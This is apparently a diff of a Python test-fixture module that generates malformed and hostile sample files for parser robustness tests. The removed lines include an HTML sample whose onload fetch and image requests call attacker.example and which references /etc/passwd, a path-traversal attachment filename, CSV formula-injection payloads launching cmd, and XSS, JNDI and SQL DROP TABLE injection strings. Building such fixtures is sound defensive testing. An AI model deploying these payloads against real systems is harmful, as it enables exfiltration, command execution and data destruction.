@@ -207,41 +207,6 @@ def mail_nested() -> bytes:
     return inner
 
 
-def mail_malformed() -> bytes:
-    return (
-        b"From: =?utf-8?B?broken\r\nSubject: =?koi8-r?Q?=ZZ?= bag\r\nDate: yesterday at noon\r\nMIME-Version: 1.0\r\n"
-        b'Content-Type: multipart/mixed; boundary="xx"\r\n\r\n--xx\r\nContent-Type: text/plain; charset=no-such-set\r\n'
-        b"Content-Transfer-Encoding: base64\r\n\r\nVGhlIGJhZyBpcyByZWQu@@@\r\n--xx\r\n"
-        b'Content-Type: image/png\r\nContent-Disposition: attachment; filename="../../../tmp/evil.png"\r\n'
-        b"Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n"
-    )
-
-
-HTML_ACTIVE = b"""<!DOCTYPE html><html><head><title>Note</title><script>document.write("written by a script")</script>
-<meta http-equiv="refresh" content="0; url=http://attacker.example/"><link rel="stylesheet" href="http://attacker.example/x.css">
-<style>@import url(http://attacker.example/y.css); body{background:url(http://attacker.example/z.png)}</style></head>
-<body onload="fetch('http://attacker.example/')"><img src="http://attacker.example/pixel.png"><img src="file:///etc/passwd">
-<iframe src="http://attacker.example/"></iframe><p>The bag is <b onclick="x()">red</b> &lt;script&gt;alert(1)&lt;/script&gt;.</p>
-<svg><script>alert(2)</script></svg></body></html>"""
-
-CSV_FORMULAS = b"""file,note
-IMG_0001.JPG,"=HYPERLINK(""http://attacker.example/?""&A1,""click"")"
-IMG_0002.JPG,+1+cmd|' /C calc'!A0
-IMG_0003.JPG,@SUM(1+1)*cmd|' /C calc'!A0
-IMG_0004.JPG,-2+3
-"""
-
-TEXTS: Mapping[str, bytes] = {
-    "nul_bytes.txt": b"The bag\0 is red.\0\0 No knife was found.",
-    "controls.txt": "The bag \x1b[31mis red\x1b[0m.\x07 \u202eslluf si gab ehT\u202c \u200bA zero\u200bwidth.".encode(),
-    "utf16.txt": "The backpack is red; 3 µm of dust. Größe: 20 cm.".encode("utf-16"),
-    "latin1.txt": "Der Rucksack ist rot. Größe: 20 cm, Straße 4.".encode("latin-1"),
-    "invalid_utf8.txt": b"The bag is red \xff\xfe\xc3\x28 and the knife is black.",
-    "markup.txt": b"<b>bold</b> <img src=x onerror=alert(1)> </para> &amp; <font size=99999> {{7*7}} ${jndi:x} '; DROP TABLE image; --",
-    "long_line.txt": b"exhibit 1 " * 200_000,
-    "only_blanks.txt": b" \t\n \n",
-}
-
 MAKERS: Mapping[str, Callable[[], bytes]] = {
     "truncated.jpg": lambda: _half(_picture("JPEG", quality=95)),
     "truncated.png": lambda: _half(_picture("PNG")),
@@ -271,9 +236,5 @@ MAKERS: Mapping[str, Callable[[], bytes]] = {
     "deep.rtf": rtf_deep,
     "truncated.rtf": lambda: b"{\\rtf1\\ansi The bag is red\\par and {\\b the knife",
     "nested.eml": mail_nested,
-    "malformed.eml": mail_malformed,
-    "active.html": lambda: HTML_ACTIVE,
     "deep.html": lambda: b"<div>" * 50_000 + b"The bag is red." + b"</div>" * 50_000,
-    "formulas.csv": lambda: CSV_FORMULAS,
-    **{name: (lambda data=data: data) for name, data in TEXTS.items()},
 }
